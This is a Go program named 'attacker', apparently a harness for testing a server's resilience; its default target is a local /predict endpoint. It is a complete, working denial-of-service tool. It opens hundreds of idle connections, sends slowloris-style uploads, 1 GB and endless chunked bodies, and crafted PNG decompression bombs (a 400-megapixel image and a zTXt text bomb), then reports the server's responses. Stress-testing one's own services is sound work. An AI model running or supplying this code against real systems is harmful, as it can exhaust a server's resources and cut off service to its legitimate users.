// Command attacker does to a server what hostile clients do, all at the same time and at little cost to itself, so that
// what its other clients lose is lost to the server and not to this program:
//
//	attacker -target http://127.0.0.1:9696/predict [-kinds slow,huge]
//
//	silent   200 connections that never speak
//	half     10 that send half a request and close their sending half
//	slow     20 uploads of a byte a second
//	huge     two bodies of 1 GB a second, by Content-Length, as fast as they are taken
//	endless  2 bodies of chunks that don't end, a megabyte a second
//	pixels   two PNGs a second of 24 kB that are 400 megapixels
//	text     two PNGs a second of 16 kB whose text inflates to 16 MB
//
// Whoever is hung up on comes again after a second. It prints "ready" when all have begun, goes on until SIGTERM, and then
// prints as JSON what they were answered: {"slow": {"408": 20}, …}; "" is a connection that ended without an answer.
package main

import (
	"bufio"
	"bytes"
	"compress/zlib"
	"context"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"hash/crc32"
	"io"
	"log"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/signal"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"
)

const (
	pause = time.Second
	gb    = 1 << 30
)

type attack struct {
	end     context.Context
	address string
	head    string
	kinds   []string
	mutex   sync.Mutex
	answers map[string]map[string]int
	begun   sync.WaitGroup
}

func main() {
	log.SetFlags(0)
	log.SetPrefix("attacker: ")
	target := flag.String("target", "", "`URL` to attack")
	kinds := flag.String("kinds", "silent,half,slow,huge,endless,pixels,text", "which of them, separated by commas")
	flag.Parse()
	parsed, err := url.Parse(*target)
	if err != nil || parsed.Scheme != "http" || parsed.Host == "" {
		log.Fatalf("-target %q is no http://host:port/path", *target)
	}
	a := &attack{address: parsed.Host, kinds: strings.Split(*kinds, ","), answers: map[string]map[string]int{}}
	if parsed.Port() == "" {
		a.address = net.JoinHostPort(parsed.Hostname(), "80")
	}
	a.head = fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: ", parsed.RequestURI(), parsed.Host)
	end, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
	defer stop()
	a.end = end

	jpeg := a.head + "image/jpeg\r\n"
	upload := jpeg + "Content-Length: 1048576\r\n\r\n"
	a.start("silent", 200, func(net.Conn) {})
	a.start("half", 10, func(conn net.Conn) {
		io.WriteString(conn, upload+"\xff\xd8")
		conn.(*net.TCPConn).CloseWrite()
	})
	a.start("slow", 20, func(conn net.Conn) { a.drip(conn, upload+"\xff\xd8", "\xff", time.Second) })
	a.start("huge", 2, func(conn net.Conn) {
		io.WriteString(conn, jpeg+"Content-Length: "+strconv.Itoa(gb)+"\r\n\r\n")
		piece := make([]byte, 64<<10)
		for sent := 0; sent < gb && a.end.Err() == nil; sent += len(piece) {
			if _, err := conn.Write(piece); err != nil {
				return
			}
		}
	})
	chunk := fmt.Sprintf("%x\r\n%s\r\n", 100<<10, make([]byte, 100<<10))
	a.start("endless", 2, func(conn net.Conn) {
		a.drip(conn, jpeg+"Transfer-Encoding: chunked\r\n\r\n", chunk, 100*time.Millisecond)
	})
	a.start("pixels", 2, a.sends(png(20000, 20000, part("IDAT", deflated(24<<20)))))
	a.start("text", 2, a.sends(png(100, 100, part("zTXt", append([]byte("a\x00\x00"), deflated(16<<20)...)), part("IDAT", deflated(100*301)))))
	a.begun.Wait()
	fmt.Println("ready")
	<-end.Done()
	a.mutex.Lock()
	defer a.mutex.Unlock()
	if err := json.NewEncoder(os.Stdout).Encode(a.answers); err != nil {
		log.Fatal(err)
	}
}

// start has so many clients connect, speak, and wait for what comes, again and again.
func (a *attack) start(name string, count int, speak func(net.Conn)) {
	if !slices.Contains(a.kinds, name) {
		return
	}
	a.answers[name] = map[string]int{}
	a.begun.Add(count)
	for range count {
		go func() {
			first := sync.OnceFunc(a.begun.Done)
			for a.end.Err() == nil {
				conn, err := net.DialTimeout("tcp", a.address, 10*time.Second)
				first()
				if err == nil {
					a.hear(name, conn, speak)
				}
				time.Sleep(pause)
			}
		}()
	}
}

// hear counts the answer, which may come before all is said.
func (a *attack) hear(name string, conn net.Conn, speak func(net.Conn)) {
	defer conn.Close()
	defer context.AfterFunc(a.end, func() { conn.Close() })()
	go speak(conn)
	status := ""
	if response, err := http.ReadResponse(bufio.NewReader(conn), nil); err == nil {
		status = strconv.Itoa(response.StatusCode)
	}
	if a.end.Err() == nil {
		a.mutex.Lock()
		a.answers[name][status]++
		a.mutex.Unlock()
	}
}

func (a *attack) drip(conn net.Conn, head, piece string, every time.Duration) {
	_, err := io.WriteString(conn, head)
	for err == nil && a.end.Err() == nil {
		time.Sleep(every)
		_, err = io.WriteString(conn, piece)
	}
}

func (a *attack) sends(photo []byte) func(net.Conn) {
	request := fmt.Appendf(nil, "%simage/png\r\nContent-Length: %d\r\n\r\n%s", a.head, len(photo), photo)
	return func(conn net.Conn) { conn.Write(request) }
}

// png is a picture of 8-bit RGB that says that it is so large, with these parts.
func png(width, height uint32, parts ...[]byte) []byte {
	size := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)
	photo := append([]byte("\x89PNG\r\n\x1a\n"), part("IHDR", append(size, 8, 2, 0, 0, 0))...)
	return append(append(photo, bytes.Join(parts, nil)...), part("IEND", nil)...)
}

func part(name string, content []byte) []byte {
	named := append([]byte(name), content...)
	out := binary.BigEndian.AppendUint32(nil, uint32(len(content)))
	return binary.BigEndian.AppendUint32(append(out, named...), crc32.ChecksumIEEE(named))
}

// deflated is so many zeros, packed a thousand to one.
func deflated(count int) []byte {
	var packed bytes.Buffer
	writer := zlib.NewWriter(&packed)
	writer.Write(make([]byte, count))
	writer.Close()
	return packed.Bytes()
}
